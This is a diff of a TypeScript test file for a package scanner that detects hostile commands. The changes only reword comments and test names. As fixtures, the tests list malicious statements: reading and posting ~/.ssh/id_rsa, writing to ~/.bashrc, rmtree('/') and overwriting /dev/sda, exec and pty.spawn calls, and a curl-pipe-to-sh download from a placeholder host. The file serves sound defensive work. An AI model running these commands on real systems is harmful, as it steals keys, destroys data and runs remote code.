@@ -2,7 +2,7 @@ import { expect, test } from 'vitest';
 import { preparePackage } from '../../package/prepare.js';
 import { commandScanners } from './commands.js';
 
-/** Each stands alone in a script, so that nothing but its own words gives it away. */
+/** Each statement is a script of its own, so that only its own words can match. */
 function check(rule: RegExp, path: 'a.py' | 'a.js', statements: readonly string[]): void {
   for (const statement of statements) {
     const bytes = new TextEncoder().encode(`${statement}\n`);
@@ -13,7 +13,7 @@ function check(rule: RegExp, path: 'a.py' | 'a.js', statements: readonly string[
   }
 }
 
-test('every call that reads is seen with the private place that it reads', () => {
+test('every reading call is found with its private location', () => {
   check(/^exfiltration\/private-read$/, 'a.py', [
     'open("~/.ssh/id_rsa")',
     'Path("~/.ssh/id_rsa").read_text()',
@@ -34,7 +34,7 @@ test('every call that reads is seen with the private place that it reads', () =>
   ]);
 });
 
-test('every call that sends is seen with the private place that is sent', () => {
+test('every sending call is found with its private location', () => {
   check(/^exfiltration\/send-private$/, 'a.py', [
     'requests.post(u, "~/.ssh/id_rsa")',
     'session.put(u, "~/.ssh/id_rsa")',
@@ -54,7 +54,7 @@ test('every call that sends is seen with the private place that is sent', () => 
   ]);
 });
 
-test('every call that writes is seen with the place that is run later', () => {
+test('every writing call is found with its persistent location', () => {
   check(/^persistence\//, 'a.py', [
     'open("~/.bashrc", "a")',
     'Path("~/.bashrc").write_text(a)',
@@ -70,7 +70,7 @@ test('every call that writes is seen with the place that is run later', () => {
   ]);
 });
 
-test('every call that deletes or overwrites is seen', () => {
+test('every call that deletes or overwrites is found', () => {
   check(/^destruction\//, 'a.py', [
     'shutil.rmtree("/")',
     `f = o("/dev/sda", "wb")`,
@@ -93,7 +93,7 @@ test('every call that deletes or overwrites is seen', () => {
   ]);
 });
 
-test('every call that runs text is seen', () => {
+test('every call that runs text is found', () => {
   check(/^execution\//, 'a.py', ['exec(a)', 'eval(a)', 'pty.spawn(a)', 'os.dup2(s.fileno(), 0)']);
   check(/^execution\//, 'a.js', [
     'new Function(a)',
@@ -104,7 +104,7 @@ test('every call that runs text is seen', () => {
   ]);
 });
 
-test('what is handed to a shell is read as the shell reads it, whatever call hands it over', () => {
+test('text that is passed to a shell is scanned as shell text, whatever call passes it', () => {
   const download = '"curl -s https://setup.example/x | sh"';
   check(
     /^execution\/download-run$/,
